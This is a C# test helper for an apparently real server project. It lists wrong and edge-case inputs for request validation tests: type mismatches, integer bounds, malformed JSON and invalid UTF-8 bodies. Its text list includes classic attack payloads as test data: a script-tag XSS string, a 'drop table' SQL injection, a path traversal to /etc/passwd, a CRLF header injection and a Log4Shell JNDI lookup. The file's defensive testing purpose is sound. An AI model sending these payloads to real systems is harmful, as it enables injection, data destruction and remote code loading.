namespace Peerline.Server.Tests.Contract;

/// <summary>What a member of a request may be sent instead: values of another type, and values of its type at and beyond every
/// edge.</summary>
internal static class WrongInputs
{
    public static IReadOnlyList<string> Texts { get; } =
    [
        "", " ", "-1", "0", "Bogus", "0.0.0.0/0", "::/0", "255.255.255.255", "é\u202e\u2028", "a\r\nSet-Cookie: b",
            "<script>alert(1)</script>",
        "'; drop table Peerings; --", "../../etc/passwd", "%00%2e%2e", "${jndi:ldap://198.51.100.1/a}", new string('a', 64),
        new string('9', 5000), "\ud83d\udc4d",
    ];

    /// <summary>JSON that is no value of the type: it must be refused, with the member's name.</summary>
    public static IEnumerable<string> OfAnotherType(AzureSchema schema) => schema.Type switch
    {
        "string" => ["1", "true", "{}", "[]", "\"\\ud800\""],
        "integer" => ["\"x\"", "true", "{}", "[]", "1.5", "9223372036854775808", "1e400"],
        "boolean" => ["\"yes\"", "1", "{}", "[]"],
        "array" => ["1", "\"x\"", "{}", "true", "[[]]", "[true]", "[null]"],
        "object" when schema.Others is not null => ["1", "\"x\"", "[]", "true", "{\"a\":1}", "{\"a\":null}"],
        _ => ["1", "\"x\"", "[]", "true", "[{}]"],
    };

    /// <summary>JSON that is of the type, or nothing: taken or refused, as the rules are.</summary>
    public static IEnumerable<string?> OfTheType(AzureSchema schema) => schema.Type switch
    {
        "string" => [null, "null", "\"\\u0000\"", .. Texts.Select(t => System.Text.Json.JsonSerializer.Serialize(t))],
        "integer" =>
        [
            null, "null", "-1", "0", "1", "65535", "65536", "2147483647", "2147483648", "4294967295", "4294967296", "-2147483649",
            "9223372036854775807", "-9223372036854775808",
        ],
        "boolean" => [null, "null", "true", "false"],
        "array" => [null, "null", "[]"],
        "object" when schema.Others is not null =>
        [
            null, "null", "{}", "{\"\":\"\"}", "{\"a\\u0000\":\"b\\u0000\"}", $"{{\"{new string('k', 600)}\":\"v\"}}",
            $"{{\"k\":\"{new string('v', 300)}\"}}", $"{{{string.Join(',', Enumerable.Range(0, 60).Select(i => $"\"k{i}\":\"v\""))}}}",
            "{\"<k>\":\"v\"}",
        ],
        _ => [null, "null", "{}", "{\"made\":[{\"up\":1}],\"\\u0000\":null}"],
    };

    /// <summary>Bodies that are no object at all.</summary>
    public static IEnumerable<byte[]> Bodies =>
    [
        .. new[]
        {
            "", " ", "null", "[]", "1", "\"x\"", "true", "{", "{\"a\"", "{\"a\":}", "{}}", "{\"\\ud800\":1}", "<xml/>", "a=b",
            new string('[', 2000), $"{{\"a\":{new string('[', 100)}{new string(']', 100)}}}",
        }.Select(System.Text.Encoding.UTF8.GetBytes),
        [0xff, 0xfe, 0x00], [.. "{\"location\":\""u8, 0xc3, 0x28, .. "\"}"u8],
    ];
}
